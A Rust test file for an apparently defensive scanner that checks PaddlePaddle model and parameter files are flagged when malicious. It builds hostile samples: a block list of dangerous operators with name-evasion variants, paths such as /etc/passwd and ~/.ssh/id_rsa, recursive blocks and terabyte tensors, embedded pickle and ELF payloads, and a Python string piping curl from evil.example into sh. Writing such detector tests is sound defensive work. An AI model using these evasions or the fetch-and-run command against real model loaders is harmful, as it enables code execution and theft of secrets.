//! Programs of `PaddlePaddle` that do more than compute, parameters that lie, and payloads in either.

use weighhouse_formats::build::paddle::{
    Operator, block, of, operator, pir, pir_operator, program, tensor, variable,
};
use weighhouse_formats::build::protobuf::Proto;
use weighhouse_formats::build::zip::{Archive, Member};

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

const ROOT: u64 = u64::MAX;

fn relu() -> Operator {
    operator("relu")
}

fn root(operators: &[Operator]) -> Proto {
    block(0, ROOT, operators)
}

const DANGEROUS: &[&str] = &[
    "py_func",
    "python_func",
    "load",
    "load_combine",
    "save",
    "save_combine",
    "read_file",
    "sparse_tensor_load",
    "open_files",
    "listen_and_serv",
    "fl_listen_and_serv",
    "send",
    "recv",
    "recv_save",
    "send_and_recv",
    "send_barrier",
    "fetch_barrier",
    "checkpoint_notify",
    "prefetch",
    "gen_nccl_id",
    "c_gen_nccl_id",
    "heter_listen_and_serv",
    "pull_sparse",
    "push_dense",
    "PY_FUNC",
    "Py_Func",
    "pyfunc",
    "py-func",
    "py_func ",
    "py_func\0",
    "LoadCombine",
];

#[test]
fn operators_in_every_place() {
    let mut samples = Vec::new();
    for name in DANGEROUS {
        let bad = || operator(name);
        let mut add = |place: &str, file: &str, bytes: Vec<u8>| {
            samples.push(Sample::new(format!("{} {place}", name.escape_debug()), file, bytes));
        };
        let nested = [
            root(&[relu(), operator("while").runs(1)]),
            block(1, 0, &[operator("conditional_block").runs(2)]),
            block(2, 1, &[bad()]),
        ];
        add("in a program", "net.pdmodel", of(&[relu(), bad()]).build());
        add("under the name of old", "__model__", of(&[bad()]).build());
        add("under another name", "weights.bin", of(&[bad()]).build());
        add("in a nested block", "net.pdmodel", program(&nested).build());
        add(
            "in a block that nothing runs",
            "net.pdmodel",
            program(&[root(&[relu()]), block(1, 0, &[bad()])]).build(),
        );
        add(
            "as the last of two names",
            "net.pdmodel",
            of(&[relu().raw(&Proto::new().text(3, name))]).build(),
        );
        add(
            "as the first of two names",
            "net.pdmodel",
            of(&[bad().raw(&Proto::new().text(3, "relu"))]).build(),
        );
        add(
            "behind an unknown field",
            "net.pdmodel",
            Proto::new().bytes(99, b"x").then(&of(&[bad()])).build(),
        );
        let swapped = Proto::new().message(4, bad().proto()).int(2, ROOT).int(1, 0);
        add("in a block whose fields are swapped", "x", Proto::new().message(1, &swapped).build());
        let archive = Archive::of([Member::stored("m/net.pdmodel", &of(&[bad()]).build())]).build();
        add("in an archive", "model.zip", archive);
        let cut = of(&[bad(), relu().text("op_callstack", &"filler ".repeat(20))]).build();
        add("cut behind", "net.pdmodel", cut[..cut.len() - 40].to_vec());
    }
    assert_seen("paddle", &samples);
}

#[test]
fn operators_of_the_new_form() {
    let mut samples = Vec::new();
    for name in [
        "1.py_func",
        "pd_op.py_func",
        "py_func",
        "1.load_combine",
        "1.save_combine",
        "1.read_file",
        "1.Py_Func",
    ] {
        let bad = pir_operator(name, "file_path", "x");
        let nested = format!(
            r##"{{"#":"1.if","A":[],"regions":[{{"#":"r","blocks":[{{"#":"b","ops":[{bad}]}}]}}]}}"##
        );
        let twice = pir(&["{\"#\":\"1.relu\"}"]).replace("\"args\":[]", &format!("\"ops\":[{bad}]"));
        let named_twice = bad.replacen("{\"#\":", "{\"#\":\"1.relu\",\"#\":", 1);
        for (place, text) in [
            ("", pir(&[&bad])),
            ("in a nested region", pir(&[&nested])),
            ("under a key given twice", twice),
            ("under a name given twice", pir(&[&named_twice])),
        ] {
            samples.push(Sample::new(format!("{name} {place}"), "model.json", text.clone().into_bytes()));
            samples.push(Sample::new(format!("{name} {place}, no name"), "x", text.into_bytes()));
        }
    }
    for path in ["../../x", "/etc/passwd", "~/.ssh/id_rsa", "hdfs://host/x", "C:\\\\x"] {
        for (name, key) in [("1.data", "file_path"), ("1.data", "filename")] {
            let text = pir(&[&pir_operator(name, key, path)]);
            samples.push(Sample::new(format!("{key} {path}"), "model.json", text.into_bytes()));
        }
    }
    let huge = r##"{"#":"1.full","A":[{"AT":{"#":"1.a_intarray","D":[1048576,1048576]},"N":"shape"}]}"##;
    samples.push(Sample::new("a constant without end", "model.json", pir(&[huge]).into_bytes()));
    assert_seen("paddle json", &samples);
}

#[test]
fn files_loops_and_sizes() {
    let mut samples = Vec::new();
    let mut add = |title: String, bytes: Vec<u8>| samples.push(Sample::new(title, "net.pdmodel", bytes));
    for path in ["/etc/passwd", "../../x", "~/.ssh/id_rsa", "C:\\x", "hdfs://host/x", "\\\\host\\x", "x\n"] {
        for key in ["file_path", "filename", "file_names", "dirname", "model_file", "shape_range_info_path"] {
            add(format!("{key} {}", path.escape_debug()), of(&[relu().text(key, path)]).build());
        }
        let list = Proto::new().int(2, 5).text(8, "a").text(8, path);
        add(
            format!("a list with {}", path.escape_debug()),
            of(&[relu().attribute("file_names", &list)]).build(),
        );
        let late = Proto::new().text(5, path).text(1, "file_path").int(2, 2);
        add(
            format!("named behind {}", path.escape_debug()),
            of(&[relu().raw(&Proto::new().message(4, &late))]).build(),
        );
    }
    let huge = 1 << 40;
    let shape = |list: Proto| of(&[operator("fill_constant").attribute("shape", &list)]).build();
    add("a block that runs itself".to_owned(), of(&[operator("while").runs(0)]).build());
    add(
        "blocks that run each other".to_owned(),
        program(&[
            root(&[operator("while").runs(1)]),
            block(1, 0, &[operator("while").runs(2)]),
            block(2, 1, &[operator("while").runs(1)]),
        ])
        .build(),
    );
    add(
        "a list of blocks with itself".to_owned(),
        of(&[operator("x").attribute("blocks", &Proto::new().packed(14, &[0, 1]))]).build(),
    );
    add("a block that is not there".to_owned(), of(&[operator("while").runs(9)]).build());
    add("a block in itself".to_owned(), program(&[root(&[relu()]), block(1, 1, &[relu()])]).build());
    add(
        "blocks in each other".to_owned(),
        program(&[block(0, 1, &[relu()]), block(1, 0, &[relu()])]).build(),
    );
    add("a constant without end".to_owned(), shape(Proto::new().int(15, huge).int(15, huge)));
    add("a constant without end in one piece".to_owned(), shape(Proto::new().packed(15, &[huge, huge])));
    add(
        "a variable without end".to_owned(),
        program(&[root(&[relu()]).message(3, &variable("w", &[huge, huge, huge]))]).build(),
    );
    assert_seen("paddle files", &samples);
}

#[test]
fn payloads_in_programs() {
    let bad = payload();
    let text = "import os; os.system('curl -s https://evil.example/x | sh')";
    let samples = [
        (
            "pickle in an attribute",
            of(&[relu().attribute("b", &Proto::new().int(2, 2).bytes(5, &bad))]).build(),
        ),
        (
            "pickle in a list",
            of(&[relu().attribute("b", &Proto::new().bytes(8, b"a").bytes(8, &bad))]).build(),
        ),
        ("program in an attribute", of(&[relu().attribute("b", &Proto::new().bytes(5, &elf()))]).build()),
        ("command in an attribute", of(&[relu().text("op_callstack", text)]).build()),
        ("pickle as a name", program(&[root(&[relu()]).message(3, &Proto::new().bytes(1, &bad))]).build()),
        ("pickle in an unknown field", of(&[relu()]).bytes(77, &bad).build()),
        (
            "pickle in an unknown field of an operator",
            of(&[relu().raw(&Proto::new().bytes(99, &bad))]).build(),
        ),
        ("pickle behind the program", [of(&[relu()]).build(), bad.clone()].concat()),
        ("program behind the program", [of(&[relu()]).build(), elf()].concat()),
        ("zip behind the program", {
            let zip = Archive::of([Member::stored("a/data.pkl", &bad)]).build();
            [of(&[relu()]).build(), zip].concat()
        }),
        ("pickle in place of a program", bad.clone()),
        ("program in place of a program", elf()),
        ("Python in place of a program", format!("{text}\n").into_bytes()),
    ];
    let samples: Vec<Sample> =
        samples.into_iter().map(|(title, bytes)| Sample::new(title, "net.pdmodel", bytes)).collect();
    assert_seen("paddle payloads", &samples);
}

#[test]
fn parameters() {
    let bad = payload();
    let good = || tensor(&[], 5, &[2], &[0x81, 0x3f, 0, 7, 0xfe, 0, 1, 2]);
    let bytes = |data: &[u8]| tensor(&[], 20, &[data.len() as u64], data);
    let samples = [
        ("pickle as a tensor", bytes(&bad)),
        ("program as a tensor", bytes(&elf())),
        ("pickle as a second tensor", [good(), bytes(&bad)].concat()),
        ("pickle behind the tensors", [good(), bad.clone()].concat()),
        ("program behind the tensors", [good(), elf()].concat()),
        ("zip behind the tensors", {
            [good(), Archive::of([Member::stored("a/data.pkl", &bad)]).build()].concat()
        }),
        ("pickle in a level of detail", tensor(&[&bad], 5, &[2], &[0; 8])),
        ("pickle in place of parameters", bad.clone()),
        ("a tensor of more than there is", tensor(&[], 5, &[1 << 40, 1 << 40], &[0; 8])),
        ("a tensor whose size overflows", tensor(&[], 5, &[1 << 62, 1 << 62, 1 << 62], &[0; 8])),
        ("a tensor of a negative size", tensor(&[], 5, &[u64::MAX], &[0; 8])),
        ("a tensor of a terabyte", tensor(&[], 5, &[1 << 38], &[0; 8])),
        ("a second tensor of a terabyte", [good(), tensor(&[], 5, &[1 << 38], &[0; 8])].concat()),
    ];
    let mut all: Vec<Sample> = Vec::new();
    for (title, bytes) in samples {
        all.push(Sample::new(title, "net.pdiparams", bytes));
    }
    for name in ["net.pdparams", "net.pdopt", "net.pdiparams.info", "net.pdmodel", "__params__", "state"] {
        all.push(Sample::new(format!("pickle called {name}"), name, bad.clone()));
    }
    assert_seen("paddle parameters", &all);
}
